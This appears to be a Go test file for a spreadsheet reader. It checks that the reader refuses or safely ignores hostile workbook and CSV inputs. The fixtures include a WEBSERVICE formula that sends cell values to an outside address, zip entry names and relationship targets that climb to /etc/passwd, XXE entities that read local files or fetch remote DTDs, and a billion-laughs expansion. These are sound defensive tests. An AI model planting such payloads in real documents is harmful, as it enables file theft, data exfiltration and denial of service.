package sheet

import (
	"os"
	"strings"
	"testing"
)

// TestPartsThatLeadOutOfAWorkbookAreLeftBehind holds that a workbook with
// macros, links to other files or entries whose names lead out of a folder is
// read by its saved cells alone, and that nothing of it is written.
func TestPartsThatLeadOutOfAWorkbookAreLeftBehind(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir())
	t.Chdir(t.TempDir())
	cells := sheetXML(`<row r="1"><c r="A1" t="str"><f>[1]人事!B2</f><v>営業部</v></c><c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f><v>済</v></c></row>`)
	for _, c := range []struct {
		about string
		more  []part
		want  string // of problems
	}{
		{"macros", []part{{"xl/vbaProject.bin", string(compound) + marker}, {"xl/macrosheets/sheet1.xml", "<macrosheet>" + marker}}, "m.xlsm: sheet-macros\n"},
		{"links to other workbooks", []part{
			{"xl/externalLinks/externalLink1.xml", `<externalLink><externalBook/><sheetData><row r="1"><cell r="B2"><v>` + marker + `</v></cell></row></sheetData></externalLink>`},
			{"xl/externalLinks/_rels/externalLink1.xml.rels", `<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`},
			{"xl/connections.xml", `<connections><connection id="1" odcFile="http://192.0.2.1/a"/></connections>`},
		}, "m.xlsm: sheet-links\n"},
		{"names that lead out of the folder", []part{
			{"../../" + marker + ".xml", marker}, {"/tmp/" + marker, marker}, {`xl\..\..\` + marker + ".xml", marker},
			{"xl/worksheets/../../../" + marker + ".xml", marker}, {"xl/worksheets/../../" + marker + ".xml", marker},
		}, ""},
		{"embedded files and pictures", []part{{"xl/embeddings/oleObject1.bin", marker}, {"xl/media/image1.png", strings.Repeat(marker, 1<<20)}}, ""},
	} {
		t.Run(c.about, func(t *testing.T) {
			wantRead(t, "m.xlsm", pack(t, append([]part{cells}, c.more...)...), "[名簿]\nA1 text 営業部\nB1 text 済\n", c.want)
		})
	}
	for _, dir := range []string{".", os.Getenv("TMPDIR")} {
		if left, err := os.ReadDir(dir); err != nil || len(left) > 0 {
			t.Errorf("written: %v %v", left, err)
		}
	}
}

// TestATabThatLeadsOutOfTheWorkbookIsRefused holds that the names by which
// parts call each other open no file of this computer.
func TestATabThatLeadsOutOfTheWorkbookIsRefused(t *testing.T) {
	for _, target := range []string{"../../../../../../etc/passwd", "file:///etc/passwd", "/etc/passwd", "http://192.0.2.1/sheet1.xml"} {
		relations := transitional[3]
		relations.text = strings.Replace(relations.text, "worksheets/sheet1.xml", target, 1)
		wantRead(t, "m.xlsx", pack(t, relations, sheetXML(`<row r="1"><c r="A1"><v>1</v></c></row>`)), "", "m.xlsx: sheet-broken\n")
	}
}

// TestEntitiesAreRefused holds that no part may define words of its own, which
// grow to gigabytes or bring in a file.
func TestEntitiesAreRefused(t *testing.T) {
	laughs := `<!DOCTYPE l [<!ENTITY a0 "` + marker + `">`
	for _, n := range []string{"1", "2", "3", "4", "5", "6", "7", "8", "9"} {
		laughs += "<!ENTITY a" + n + ` "` + strings.Repeat("&a"+string(n[0]-1)+";", 10) + `">`
	}
	for about, head := range map[string]string{
		"entities of entities":   laughs + "]>",
		"an entity of a file":    `<!DOCTYPE l [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>`,
		"a parameter entity":     `<!DOCTYPE l [<!ENTITY % a SYSTEM "http://192.0.2.1/a"> %a;]>`,
		"a definition elsewhere": `<!DOCTYPE l SYSTEM "http://192.0.2.1/l.dtd">`,
	} {
		for _, name := range []string{"xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"} {
			p := sheetXML(`<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>`)
			p = part{name, "<?xml version=\"1.0\"?>" + head + p.text}
			if _, problems := Read("m.xlsx", pack(t, p), Limits{}); told(t, problems) != "m.xlsx: sheet-broken\n" {
				t.Errorf("%s in %s: got %s", about, name, told(t, problems))
			}
		}
	}
}

func TestHostileTextsAreRefused(t *testing.T) {
	for _, c := range []struct{ about, text, want string }{
		{"NUL bytes", "社員番号,氏名\n\x00" + marker + ",\x00\n", "m.csv: sheet-nul\n"},
		{"NUL bytes in CP932", "\x8e\xd0\x88\xf5,a\n\x00,b\n", "m.csv: sheet-nul\n"},
		{"a cell of 10 MB", "id,name\n1," + marker + strings.Repeat("a", 10<<20) + "\n", "m.csv:2 (B): sheet-cell-large\n"},
		{"16,384 columns", strings.Repeat("a,", 16_383) + "a\n", "m.csv: sheet-columns-many\n"},
		{"a million rows", strings.Repeat("a,b\n", 1<<20), "m.csv: sheet-rows-many\n"},
		{"a quotation mark that nothing closes", "id,name\n1,\"" + strings.Repeat(marker+",\n", 1<<20), "m.csv:2: sheet-quote\n"},
		{"a program", "\x7fELF\x02\x01\x01\x00" + marker, "m.csv: sheet-nul\n"},
		{"a PDF file named .csv", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + marker, "m.csv: sheet-other\n"},
	} {
		t.Run(c.about, func(t *testing.T) {
			_, problems := readWithin(t, "m.csv", []byte(c.text))
			if got := told(t, problems); got != c.want {
				t.Errorf("got %swant %s", got, c.want)
			}
		})
	}
}
